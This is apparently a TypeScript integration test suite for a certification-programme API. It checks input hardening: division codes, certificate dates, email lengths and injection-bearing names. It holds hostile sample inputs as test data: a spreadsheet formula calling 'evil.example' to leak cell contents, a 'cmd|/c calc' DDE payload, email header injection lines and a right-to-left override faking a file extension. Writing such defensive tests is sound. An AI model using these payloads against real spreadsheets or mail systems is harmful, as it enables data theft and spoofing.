import type { Client } from '@temporalio/client';
import { parse } from 'csv-parse/sync';
import { addDays, beijingDate } from '@uplift/domain';
import { enterprise } from '../support/fixtures';
import { Stack, type HttpAnswer } from '../support/stack';
import type { StepBody } from '../support/api';
import { ASSIGNED, World, type Step } from '../support/world';

const DIAGNOSIS: StepBody<'diagnosis'> = {
  findings: [
    { dimension: 'quality_management', category: '标准难理解', description: '质量手册与实际运行脱节' },
  ],
  baseline: { revenue: 1200, sales: 1100, profitMargin: 6.5, qualityCostRate: 4.2, firstPassYield: 93.5 },
};
const PLAN = { measures: [{ title: '建立质量目标分解体系', owner: '质量部 王工', dueDate: '2026-12-31' }] };
const DIAGNOSED: Step[] = [...ASSIGNED, ['diagnosis', () => DIAGNOSIS]];
const AT_CERTIFICATION: Step[] = [
  ...DIAGNOSED,
  ['assistance-plan', () => PLAN],
  ['assistance-completion', () => ({ summary: '完成体系文件编写和内审员培训' })],
];

/** An address of `length` characters with a local part of `local` and labels of at most `label`. */
function address(local: number, labels: number[]): string {
  return `${'a'.repeat(local)}@${labels.map((n, i) => String.fromCharCode(98 + i).repeat(n)).join('.')}.cn`;
}

/**
 * Issue 10, classes 6 (addresses, on input), 7 (output people open) and 8 (identifiers checked by shape
 * only): division codes against the GB/T 2260 divisions that exist, USCC filters read like imports,
 * certificate dates within reason, formula cells neutralised in the report CSV, names that could add a
 * line to an email or reorder what is shown refused, and addresses over RFC 5321's lengths refused.
 * After each refusal, by count: no journey, round, principal or body more, no step recorded (read model
 * versions and Temporal histories), no email, no workflow execution, and one audit row, the refusal's.
 */
describe('identifiers, names and addresses hardened (issue 10)', () => {
  let stack: Stack;
  let w: World;
  let temporal: Client;
  let diagnosisJourney: string;
  let certificationJourney: string;

  beforeAll(async () => {
    stack = await Stack.start();
    temporal = await stack.temporalClient();
    w = await World.create(stack);
    diagnosisJourney = await w.journey(ASSIGNED);
    certificationJourney = await w.journey(AT_CERTIFICATION);
  });

  afterAll(async () => {
    await temporal?.connection.close();
    await stack?.stop();
  });

  const historyLength = async (id: string) =>
    (await temporal.workflow.getHandle(id).fetchHistory()).events?.length ?? 0;

  /** Everything a refused request must leave as it was. */
  const snapshot = async () => {
    await stack.journeysSettled();
    const [tables] = await stack.query(
      `SELECT (SELECT count(*) FROM rounds)::int AS rounds, (SELECT count(*) FROM journeys)::int AS journeys,
              (SELECT count(*) FROM principals)::int AS principals,
              (SELECT count(*) FROM certification_bodies)::int AS bodies,
              (SELECT coalesce(sum(version), 0)::int FROM journeys) AS versions`,
    );
    return {
      tables,
      emails: stack.mail.messages.length,
      executions: (await temporal.workflow.count(`WorkflowType = 'journeyWorkflow'`)).count,
      histories: {
        diagnosis: await historyLength(diagnosisJourney),
        certification: await historyLength(certificationJourney),
      },
    };
  };
  const auditRows = async () =>
    (await stack.query(`SELECT count(*)::int AS n FROM audit_log`))[0].n as number;

  /** A 400 naming exactly `fields`, with nothing changed but the audit row that records the refusal. */
  async function expectRefused(
    send: () => Promise<HttpAnswer>,
    fields: { field: string; message: RegExp }[],
  ) {
    const before = await snapshot();
    const audited = await auditRows();
    const answer = await send();
    expect(answer.status).toBe(400);
    expect(answer.body).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    expect(answer.body.details).toEqual(
      fields.map((f) => ({
        field: f.field,
        code: expect.any(String),
        message: expect.stringMatching(f.message),
      })),
    );
    expect(await snapshot()).toEqual(before);
    expect(await auditRows()).toBe(audited + 1);
    const [last] = await stack.query(`SELECT status_code FROM audit_log ORDER BY id DESC LIMIT 1`);
    expect(last.status_code).toBe(400);
    return answer;
  }

  /** An import whose every row is refused by `field`: a 200 listing each row, and nothing stored. */
  async function expectRowsRefused(rows: Record<string, unknown>[], field: string, message: RegExp) {
    const before = await snapshot();
    const audited = await auditRows();
    const answer = await w.request('regulatorInScope', 'POST', `/v1/rounds/${w.ids.round}/candidates`, {
      enterprises: rows,
    });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({
      accepted: 0,
      duplicates: 0,
      rows: rows.length,
      rejectedRows: rows.length,
    });
    expect(answer.body.rejected).toEqual(
      rows.map((_, i) => ({
        row: i + 1,
        code: expect.any(String),
        field,
        message: expect.stringMatching(message),
      })),
    );
    expect(await snapshot()).toEqual(before);
    expect(await auditRows()).toBe(audited + 1);
  }

  describe('GB/T 2260 division codes that do not exist', () => {
    const NONE = /^is not a GB\/T 2260 division that exists$/;

    it.each(['339999', '330199', '999999'])('refuses %s for a round, by its field', async (code) => {
      await expectRefused(
        () => w.request('regulatorInScope', 'POST', '/v1/rounds', { name: 'r', regionCode: code }),
        [{ field: 'regionCode', message: NONE }],
      );
    });

    it('refuses one for a regulator, and as a filter', async () => {
      await expectRefused(
        () =>
          w.request('admin', 'POST', '/v1/principals', {
            role: 'regulator',
            name: '不存在的市场监管局',
            email: 'nowhere@samr.example',
            regionCode: '999999',
          }),
        [{ field: 'regionCode', message: NONE }],
      );
      const filter = await w.request('regulatorInScope', 'GET', '/v1/journeys?regionCode=330199');
      expect(filter.status).toBe(400);
      expect(filter.body.details).toEqual([
        { field: 'query.regionCode', code: 'division.unknown', message: expect.stringMatching(NONE) },
      ]);
    });

    it('refuses import rows in one, row by row, storing nothing', async () => {
      await expectRowsRefused(
        [
          w.enterprise({ regionCode: '330199' }),
          w.enterprise({ regionCode: '339999' }),
          w.enterprise({ regionCode: '999999' }),
        ],
        'regionCode',
        NONE,
      );
    });

    it('refuses a CSV row in one, and takes the row beside it', async () => {
      const good = w.enterprise();
      const bad = w.enterprise({ regionCode: '330199' });
      const line = (e: ReturnType<World['enterprise']>) =>
        [e.uscc, e.name, e.regionCode, e.industryCode, e.email].join(',');
      const before = await snapshot();
      const answer = await stack.request('POST', `/v1/rounds/${w.ids.round}/candidates`, {
        key: w.keys.regulatorInScope,
        body: ['uscc,name,regionCode,industryCode,email', line(bad), line(good)].join('\n') + '\n',
        headers: { 'content-type': 'text/csv' },
      });
      expect(answer.status).toBe(200);
      expect(answer.body).toMatchObject({ accepted: 1, rows: 2, rejectedRows: 1 });
      expect(answer.body.rejected).toEqual([
        {
          row: 1,
          code: expect.any(String),
          field: 'regionCode',
          column: 'regionCode',
          message: expect.stringMatching(NONE),
        },
      ]);
      await stack.journeysSettled();
      const after = await snapshot();
      expect(after.tables.journeys).toBe(before.tables.journeys + 1);
    });

    it('still takes the divisions that exist, at every level', async () => {
      for (const regionCode of ['330100', '330102', '330106']) {
        const e = w.enterprise({ regionCode });
        const answer = await w.request('regulatorInScope', 'POST', `/v1/rounds/${w.ids.round}/candidates`, {
          enterprises: [e],
        });
        expect(answer.body).toMatchObject({ accepted: 1, rejected: [] });
      }
    });
  });

  describe('USCCs read one way on every path', () => {
    it('filters by a lowercase or full-width code as imports read it', async () => {
      const e = w.enterprise();
      const imported = await w.request('regulatorInScope', 'POST', `/v1/rounds/${w.ids.round}/candidates`, {
        enterprises: [{ ...e, uscc: e.uscc.toLowerCase() }],
      });
      expect(imported.body).toMatchObject({ accepted: 1, rejected: [] });
      await stack.journeysSettled();
      const id = `journey-${w.ids.round}-${e.uscc}`;
      const fullWidth = e.uscc.replace(/[0-9A-Z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
      for (const query of [e.uscc, e.uscc.toLowerCase(), ` ${e.uscc.toLowerCase()} `, fullWidth]) {
        const found = await w.request(
          'regulatorInScope',
          'GET',
          `/v1/journeys?uscc=${encodeURIComponent(query)}`,
        );
        expect(found.status).toBe(200);
        expect(found.body.items.map((j: { id: string }) => j.id)).toEqual([id]);
      }
    });

    it('takes a lowercase code in a CSV row as in JSON', async () => {
      const e = w.enterprise();
      const answer = await stack.request('POST', `/v1/rounds/${w.ids.round}/candidates`, {
        key: w.keys.regulatorInScope,
        body: `uscc,name,regionCode,industryCode,email\n${[e.uscc.toLowerCase(), e.name, e.regionCode, e.industryCode, e.email].join(',')}\n`,
        headers: { 'content-type': 'text/csv' },
      });
      expect(answer.body).toMatchObject({ accepted: 1, rejected: [] });
      const read = await w.request(
        'regulatorInScope',
        'GET',
        `/v1/journeys/journey-${w.ids.round}-${e.uscc}`,
      );
      expect(read.status).toBe(200);
      expect(read.body.enterprise.uscc).toBe(e.uscc);
    });
  });

  describe('certificate dates', () => {
    const certify = (id: string, dates: Record<string, string>) =>
      w.request('bodyAssigned', 'POST', `/v1/journeys/${id}/certification`, {
        outcome: 'certified',
        certificateNumber: '00126Q30001R0S',
        ...dates,
      });
    const today = beijingDate(new Date());

    it.each([
      [{ issuedOn: '9999-12-31' }, 'issuedOn', /no later than/],
      [{ issuedOn: addDays(today, 8) }, 'issuedOn', /no later than/],
      [{ issuedOn: '1999-12-31' }, 'issuedOn', /2000-01-01 or later/],
      [{ issuedOn: '2026-01-10', expiresOn: '2026-01-10' }, 'expiresOn', /after issuedOn/],
      [{ issuedOn: '2026-01-10', expiresOn: '2029-01-11' }, 'expiresOn', /no later than 2029-01-10/],
      [{ issuedOn: '2024-02-29', expiresOn: '2027-03-01' }, 'expiresOn', /no later than 2027-02-28/],
    ])('refuses %j by %s before the step reaches the workflow', async (dates, field, message) => {
      await expectRefused(() => certify(certificationJourney, dates), [{ field, message }]);
    });

    it('records a certificate issued on 29 February as expiring on 28 February three years on', async () => {
      const answer = await certify(certificationJourney, { issuedOn: '2024-02-29' });
      expect(answer.status).toBe(200);
      expect(answer.body.certification).toMatchObject({ issuedOn: '2024-02-29', expiresOn: '2027-02-28' });
      const read = await w.request('admin', 'GET', `/v1/journeys/${certificationJourney}`);
      expect(read.body.certification).toMatchObject({ issuedOn: '2024-02-29', expiresOn: '2027-02-28' });
    });

    it('records one issued today as expiring three years on, and one the body dates itself as given', async () => {
      const first = await w.journey(AT_CERTIFICATION);
      const answer = await certify(first, { issuedOn: today });
      expect(answer.body.certification.expiresOn).toBe(`${Number(today.slice(0, 4)) + 3}${today.slice(4)}`);
      const second = await w.journey(AT_CERTIFICATION);
      const given = await certify(second, { issuedOn: '2026-01-10', expiresOn: '2027-01-09' });
      expect(given.body.certification).toMatchObject({ issuedOn: '2026-01-10', expiresOn: '2027-01-09' });
    });
  });

  describe('names that would add a line to an email or show as another', () => {
    const LINE = /single line/;
    const CONTROL = /control character/;

    it.each([
      [
        'a round name with CR/LF',
        () =>
          w.request('regulatorInScope', 'POST', '/v1/rounds', {
            name: '第一批\r\nBcc: x@evil.example',
            regionCode: '330100',
          }),
        'name',
        LINE,
      ],
      [
        'a round name ending in a line feed',
        () => w.request('regulatorInScope', 'POST', '/v1/rounds', { name: '第一批\n', regionCode: '330100' }),
        'name',
        LINE,
      ],
      [
        'a principal name with a right-to-left override',
        () =>
          w.request('admin', 'POST', '/v1/principals', {
            role: 'admin',
            name: 'ops\u202Egnp.exe',
            email: 'ops@uplift.example',
          }),
        'name',
        CONTROL,
      ],
      [
        'a principal name with an isolate',
        () =>
          w.request('admin', 'POST', '/v1/principals', {
            role: 'admin',
            name: 'ops\u2067x\u2069',
            email: 'ops@uplift.example',
          }),
        'name',
        CONTROL,
      ],
      [
        'a body name with a line separator',
        () =>
          w.request('admin', 'POST', '/v1/certification-bodies', {
            code: 'CNCA-R-2021-901',
            name: '认证\u2028机构',
            email: 'cb@cert.example',
          }),
        'name',
        LINE,
      ],
      [
        'a body name with a zero-width space',
        () =>
          w.request('admin', 'POST', '/v1/certification-bodies', {
            code: 'CNCA-R-2021-902',
            name: '认证\u200B机构',
            email: 'cb@cert.example',
          }),
        'name',
        /invisible/,
      ],
      [
        'a finding category with a line feed',
        () =>
          w.request('bodyAssigned', 'POST', `/v1/journeys/${diagnosisJourney}/diagnosis`, {
            ...DIAGNOSIS,
            findings: [{ ...DIAGNOSIS.findings[0], category: '标准\n难理解' }],
          }),
        'findings.0.category',
        LINE,
      ],
      [
        'a certificate number with CR/LF',
        () =>
          w.request('bodyAssigned', 'POST', `/v1/journeys/${certificationJourney}/certification`, {
            outcome: 'certified',
            certificateNumber: 'Q-1\r\nX',
            issuedOn: '2026-01-10',
          }),
        'certificateNumber',
        LINE,
      ],
      [
        'a withdrawal reason with a right-to-left mark',
        () =>
          w.request('regulatorInScope', 'POST', `/v1/journeys/${diagnosisJourney}/withdrawal`, {
            reason: '企业\u200F退出',
          }),
        'reason',
        CONTROL,
      ],
    ] as [string, () => Promise<HttpAnswer>, string, RegExp][])(
      'refuses %s',
      async (_name, send, field, message) => {
        await expectRefused(send, [{ field, message }]);
      },
    );

    it('refuses a measure owner or title with a line break, by its path', async () => {
      const planJourney = await w.journey(DIAGNOSED);
      const before = await historyLength(planJourney);
      await expectRefused(
        () =>
          w.request('bodyAssigned', 'POST', `/v1/journeys/${planJourney}/assistance-plan`, {
            measures: [
              { ...PLAN.measures[0], owner: '王工\r\n' },
              { ...PLAN.measures[0], title: '目标\u200B分解' },
            ],
          }),
        [
          { field: 'measures.0.owner', message: LINE },
          { field: 'measures.1.title', message: /invisible/ },
        ],
      );
      expect(await historyLength(planJourney)).toBe(before);
    });

    it('refuses import rows whose enterprise or contact name holds one, storing nothing', async () => {
      await expectRowsRefused(
        [w.enterprise({ name: '某公司\r\nSubject: 已认证' }), w.enterprise({ name: '某公司\u2028' })],
        'name',
        LINE,
      );
      await expectRowsRefused([w.enterprise({ contactName: '张三\u200D' })], 'contactName', /invisible/);
    });

    it('refuses a CSV row whose name holds a right-to-left override, and takes the next', async () => {
      const bad = w.enterprise({ name: '某公司\u202E司公' });
      const good = w.enterprise();
      const line = (e: ReturnType<World['enterprise']>) =>
        [e.uscc, e.name, e.regionCode, e.industryCode, e.email].join(',');
      const answer = await stack.request('POST', `/v1/rounds/${w.ids.round}/candidates`, {
        key: w.keys.regulatorInScope,
        body: ['uscc,name,regionCode,industryCode,email', line(bad), line(good)].join('\n') + '\n',
        headers: { 'content-type': 'text/csv' },
      });
      expect(answer.status).toBe(200);
      expect(answer.body).toMatchObject({ accepted: 1, rows: 2, rejectedRows: 1 });
      expect(answer.body.rejected).toEqual([
        {
          row: 1,
          code: expect.any(String),
          field: 'name',
          column: 'name',
          message: expect.stringMatching(CONTROL),
        },
      ]);
      const stored = await w.request('admin', 'GET', `/v1/journeys/journey-${w.ids.round}-${bad.uscc}`);
      expect(stored.status).toBe(404);
    });
  });

  describe('email addresses within RFC 5321 lengths', () => {
    const OVER: [string, string, RegExp][] = [
      ['255 characters', address(64, [63, 63, 59]), /at most 254 characters/],
      ['a local part of 65', address(65, [20]), /at most 64 characters before the @/],
      ['a domain label of 64', address(10, [64]), /at most 63 characters in each label/],
    ];

    it.each(OVER)('refuses a principal address of %s', async (_name, email, message) => {
      expect(email.length).toBeGreaterThan(0);
      await expectRefused(
        () => w.request('admin', 'POST', '/v1/principals', { role: 'admin', name: 'ops', email }),
        [{ field: 'email', message }],
      );
    });

    it.each(OVER)('refuses a certification body address of %s', async (_name, email, message) => {
      await expectRefused(
        () =>
          w.request('admin', 'POST', '/v1/certification-bodies', {
            code: 'CNCA-R-2021-903',
            name: '某认证机构',
            email,
          }),
        [{ field: 'email', message }],
      );
    });

    it.each(OVER)(
      'refuses an import row whose address has %s, storing nothing',
      async (_name, email, message) => {
        await expectRowsRefused([w.enterprise({ email })], 'email', message);
      },
    );

    it('takes an address of exactly 254 characters', async () => {
      const email = address(64, [63, 63, 58]);
      expect(email).toHaveLength(254);
      const answer = await w.request('admin', 'POST', '/v1/principals', {
        role: 'admin',
        name: 'ops-254',
        email,
      });
      expect(answer.status).toBe(201);
      expect(answer.body.email).toBe(email);
    });
  });

  describe('the report CSV, opened in a spreadsheet', () => {
    it('neutralises names that start a formula, and keeps them as they are in JSON', async () => {
      const names = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', '+1+cmd|/c calc', '-2+3', '@SUM(1,1)'];
      const round = await w.request('regulatorInScope', 'POST', '/v1/rounds', {
        name: '=1+2 第一批',
        regionCode: '330100',
      });
      expect(round.status).toBe(201);
      let serial = 80_000;
      for (const [i, name] of names.entries()) {
        const body = await w.request('admin', 'POST', '/v1/certification-bodies', {
          code: `CNCA-R-2022-${900 + i}`,
          name,
          email: `formula-${i}@cert.example`,
        });
        expect(body.status).toBe(201);
        const e = enterprise('330106', serial++);
        const id = `journey-${round.body.id}-${e.uscc}`;
        await w.request('regulatorInScope', 'POST', `/v1/rounds/${round.body.id}/candidates`, {
          enterprises: [e],
        });
        await stack.journeysSettled();
        expect(
          (
            await w.request('admin', 'POST', `/v1/journeys/${id}/screening-decision`, {
              decision: 'selected',
            })
          ).status,
        ).toBe(200);
        expect(
          (
            await w.request('admin', 'POST', `/v1/journeys/${id}/assignment`, {
              certificationBodyId: body.body.id,
            })
          ).status,
        ).toBe(200);
      }

      const csv = await w.request('regulatorInScope', 'GET', `/v1/rounds/${round.body.id}/report?format=csv`);
      expect(csv.status).toBe(200);
      const text = csv.body as string;
      const rows = parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
      // The CSV speaks the regulator's headers (维度, 名称, 企业数); the round's name titles the overall rows.
      expect(rows.find((r) => r['维度'] === '总计（最近一次评估）')?.['名称']).toBe(`'=1+2 第一批`);
      const labels = rows.filter((r) => r['维度'] === '认证机构').map((r) => r['名称']);
      expect(labels.sort()).toEqual(names.map((n) => `'${n}`).sort());
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
      // Figures stay figures: no number cell is quoted or prefixed.
      const counted = rows.filter((r) => r['企业数'] !== '');
      expect(counted.length).toBeGreaterThan(names.length);
      expect(counted.every((r) => /^\d+$/.test(r['企业数']))).toBe(true);

      const json = await w.request('regulatorInScope', 'GET', `/v1/rounds/${round.body.id}/report`);
      expect(json.body.roundName).toBe('=1+2 第一批');
      expect(json.body.byCertificationBody.map((b: { name: string }) => b.name).sort()).toEqual(
        [...names].sort(),
      );
    });
  });
});
